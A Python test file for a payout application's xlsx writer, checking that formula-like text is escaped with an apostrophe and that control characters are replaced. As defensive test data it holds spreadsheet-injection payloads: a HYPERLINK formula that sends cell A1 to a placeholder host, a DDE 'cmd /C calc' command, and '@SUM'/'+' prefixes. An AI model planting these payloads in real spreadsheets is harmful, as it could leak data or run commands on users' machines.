"""Every xlsx the app writes goes through one cell writer (issue 13): text is a text cell, never a formula —
a leading = + - @ TAB CR gets an apostrophe (OWASP's CSV-injection advice) — characters a worksheet cannot
hold become U+FFFD, numbers stay numbers. Each test writes a real workbook and reads it back with openpyxl."""

from __future__ import annotations

import csv
import io
from dataclasses import fields, replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from payout_desk.domain.settlement import Count, PointFigures
from payout_desk.exchange.settlement_xlsx import (
    BeneficiaryLine,
    ConflictLine,
    ExceptionLine,
    SettlementBook,
    write_settlement,
)
from payout_desk.exchange.xlsx_cells import CELL_LIMIT, cell, cell_text, cell_value
from payout_desk.services.office.desk import OfficeDesk
from payout_desk.services.point.desk import PointDesk
from payout_desk.services.point.pay import Proxy
from tests.paykit import signed
from tests.roundkit import CSV_HEADER, MONTH, add_clerks, passphrase

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm để xem")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "a\x02b\x00c", "=\x1bX"]


def read_back(content: bytes) -> list[list[object]]:
    """Every cell of every sheet as (value, data type), checking that none is a formula."""
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                if c.value is not None:
                    cells.append([c.value, c.data_type])
    return cells


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_that_a_spreadsheet_would_evaluate_is_written_as_text(value: str) -> None:
    written = cell_text(value)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert written.startswith("'") or "\ufffd" in written
    assert not ILLEGAL_CHARACTERS_RE.search(written)


def test_numbers_stay_numbers_and_odd_values_become_text() -> None:
    assert cell_value(2_789_000) == 2_789_000 and cell_value(-5) == -5 and cell_value(None) is None
    assert cell_value(True) is True and cell_value(1.5) == 1.5
    assert cell_value(["a", 1]) == "['a', 1]" and cell_value({"=x": 1}) == "{'=x': 1}"
    assert cell_value(float("nan")) == "nan"
    assert cell_value("Nguyễn Văn An") == "Nguyễn Văn An"  # ordinary text untouched
    assert cell_value("dòng 1\ndòng 2") == "dòng 1\ndòng 2"  # a note keeps its lines
    assert len(cell_text("x" * 40_000)) == CELL_LIMIT


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(), st.integers(-(10**15), 10**15), st.none(), st.lists(st.text(max_size=3))))
def test_any_value_is_written_and_read_back_without_a_formula(value: object) -> None:
    wb = Workbook(write_only=True)
    sheet = wb.create_sheet("x")
    sheet.append([cell(sheet, value), cell(sheet, "=1+1")])
    buffer = io.BytesIO()
    wb.save(buffer)
    [*cells] = read_back(buffer.getvalue())
    assert ["'=1+1", "s"] in cells
    if isinstance(value, int):
        assert [value, "n"] in cells


def hostile_book() -> SettlementBook:
    """A settlement where every text field of every line is one of the hostile values."""
    values = iter(HOSTILE * 20)

    def line(shape: type, /, **numbers: object) -> object:
        return shape(
            **{f.name: numbers.get(f.name, next(values) if f.type == "str" else 1) for f in fields(shape)}
        )

    return SettlementBook(
        month=MONTH,
        office_name=DDE,
        made_at="02/12/2026 08:00",
        points=[PointFigures(next(values), next(values), issued=Count(1, 1), paid_out=1, received=1)],
        beneficiaries=[line(BeneficiaryLine, status="paid", birth_year=None, at_home=False)],
        exceptions=[line(ExceptionLine, kind="deceased", paid=False)],
        conflicts=[line(ConflictLine, kind="double-payout")],
    )


def test_the_settlement_with_formulas_and_control_characters_in_every_text_field_is_written() -> None:
    cells = read_back(write_settlement(hostile_book()))
    texts = {value for value, kind in cells if kind == "s"}
    assert {"'" + HYPERLINK, "'" + DDE, "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1"} <= texts
    assert "a\ufffdb\ufffdc" in texts and "'=\ufffdX" in texts
    assert not any(isinstance(v, str) and ILLEGAL_CHARACTERS_RE.search(v) for v, _k in cells)
    assert [1, "n"] in cells  # the figures are numbers


def register(path: Path) -> Path:
    """A register whose texts start with = + - @: name, village, category, point name, standing proxy."""
    buffer = io.StringIO()
    rows = csv.writer(buffer, lineterminator="\n")
    people = [
        ("NCC001", HYPERLINK, "+84 ấp 1", "Thân nhân liệt sĩ", "Điểm An Phước", f"Ủy quyền: {DDE} (con)"),
        ("NCC002", "@SUM(A1:A9)", "=1+1", "Thân nhân liệt sĩ", "Điểm An Phước", ""),
        ("NCC003", "Trần Thị Ba", "ấp 2", "Thân nhân liệt sĩ", '=HYPERLINK("http://x")', ""),
    ]
    for i, (code, name, village, category, point, note) in enumerate(people, 1):
        rows.writerow(
            [
                i,
                code,
                name,
                1950,
                "Nữ",
                "",
                village,
                category,
                point,
                2_789_000,
                "",
                2_789_000,
                "Tiền mặt",
                note,
            ]
        )
    path.write_text(CSV_HEADER + buffer.getvalue(), encoding="utf-8")
    return path


def test_the_office_settlement_of_a_round_with_hostile_texts_has_no_formula(tmp_path: Path) -> None:
    office = OfficeDesk(tmp_path / "office", passphrase=passphrase)
    office.init_keys("office", "=Bưu điện huyện Mang Thít")
    office.registers.import_file(register(tmp_path / "register.csv"), MONTH)
    laptop = PointDesk(tmp_path / "laptop", passphrase=passphrase)
    key = laptop.init_keys("point", "-máy 1").public_key.b64
    office.devices.enroll("P01", key, "@máy 1")
    issued = office.lists.issue(MONTH, tmp_path / "lists")
    laptop.lists.load(issued[0].path, trust_office=office.require_identity().fingerprint)
    add_clerks(laptop)
    laptop.cash.receive(10_000_000)  # a payout needs the cash on hand
    laptop.pay.record(signed("NCC001", standing_proxy=True, proxy=Proxy("", "086040173112", id_checked=True)))
    laptop.pay.record(signed("NCC002", proxy=Proxy('=HYPERLINK("http://x")', "086040173112", "+con", "@1")))
    office.imports.files([laptop.sync.export(tmp_path / "may1.pdsync").path])

    out = tmp_path / "thanh-quyet-toan.xlsx"
    office.papers.settlement(MONTH, out)
    cells = read_back(out.read_bytes())
    texts = {value for value, kind in cells if kind == "s"}
    assert {"'" + HYPERLINK, "'@SUM(A1:A9)", "'=1+1", "'+84 ấp 1"} <= texts
    assert '\'=HYPERLINK("http://x")' in texts and "'+con" in texts
    assert any(isinstance(v, str) and DDE in v for v in texts)  # the standing proxy, as the list names them
    assert [2_789_000, "n"] in cells
    office.close()
    laptop.close()


def test_a_report_or_conflict_kind_this_version_does_not_know_is_written_as_stored() -> None:
    book = hostile_book()
    book.exceptions = [replace(e, kind=DDE) for e in book.exceptions]
    book.conflicts = [replace(c, kind="@later-kind") for c in book.conflicts]
    book.beneficiaries = [replace(b, status="exception", reason="+moved") for b in book.beneficiaries]
    texts = {value for value, kind in read_back(write_settlement(book)) if kind == "s"}
    assert {"'" + DDE, "'@later-kind", "'+moved"} <= texts
